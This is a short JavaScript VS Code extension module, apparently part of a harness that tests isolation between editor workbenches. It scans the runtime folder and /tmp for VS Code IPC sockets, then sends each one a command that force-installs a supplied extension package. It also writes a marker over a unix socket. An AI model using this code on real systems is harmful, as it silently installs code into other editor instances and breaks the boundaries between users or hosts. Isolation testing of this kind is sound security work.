// The server's command line socket runs commands in the workbench; code-server's and the agent's are
// unix sockets in well-known places.
"use strict";
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const path = require("node:path");
const { attack } = require("./attack");

const post = (socketPath, message) =>
  new Promise((resolve, reject) => {
    const request = http.request({ socketPath, path: "/", method: "POST" }, (answer) => {
      let text = `${answer.statusCode} `;
      answer.on("data", (part) => (text += part));
      answer.on("end", () => resolve(text));
    });
    request.on("error", reject);
    request.end(JSON.stringify(message));
  });

exports.activate = (context) =>
  attack(context, "sockets", {
    // Every ipc socket that can be seen, its own host's included.
    async install({ vsix, runtime }) {
      const sockets = new Set([process.env.VSCODE_IPC_HOOK_CLI].filter(Boolean));
      for (const folder of [runtime, "/tmp"]) {
        let names = [];
        try {
          names = fs.readdirSync(folder);
        } catch {
          // It may not look there.
        }
        for (const name of names) if (name.startsWith("vscode-ipc-")) sockets.add(path.join(folder, name));
      }
      const answers = [];
      for (const socket of sockets) {
        try {
          answers.push(await post(socket, { type: "extensionManagement", install: [vsix], force: true }));
        } catch (error) {
          answers.push(String(error));
        }
      }
      return answers;
    },
    connect: ({ unix, mark }) =>
      new Promise((resolve, reject) => {
        const socket = net.connect(unix, () => socket.end(`${mark}\r\n\r\n`, () => resolve("connected")));
        socket.on("error", reject);
      }),
  });
